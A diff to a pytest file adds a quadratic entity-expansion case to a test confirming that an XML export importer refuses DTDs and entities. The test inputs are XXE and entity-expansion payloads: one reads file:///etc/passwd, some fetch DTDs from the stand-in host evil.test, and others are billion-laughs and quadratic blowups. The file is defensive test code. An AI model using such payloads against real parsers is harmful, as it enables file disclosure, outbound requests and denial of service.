@@ -280,10 +280,13 @@ BILLION_LAUGHS = (
 )
 OUTSIDE = """<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>"""
 PARAMETER = """<!DOCTYPE x [<!ENTITY % far SYSTEM "http://evil.test/x.dtd"> %far;]>"""
+QUADRATIC = f"""<!DOCTYPE x [<!ENTITY long "{"a" * 50_000}">]>"""
 NOTHING_BUT_A_DTD = """<!DOCTYPE rss SYSTEM "http://evil.test/x.dtd">"""
 
 
-@pytest.mark.parametrize("head", [BILLION_LAUGHS, OUTSIDE, PARAMETER, NOTHING_BUT_A_DTD])
+@pytest.mark.parametrize(
+    "head", [BILLION_LAUGHS, OUTSIDE, PARAMETER, QUADRATIC, NOTHING_BUT_A_DTD], ids=lambda head: head[:40]
+)
 def test_entities_and_dtds_are_refused(head: str) -> None:
     hostile = wxr.export(wxr.item(wxr.comment()), head=head)
     assert refusal(hostile).startswith("Line 3: this declares a DTD or an entity")
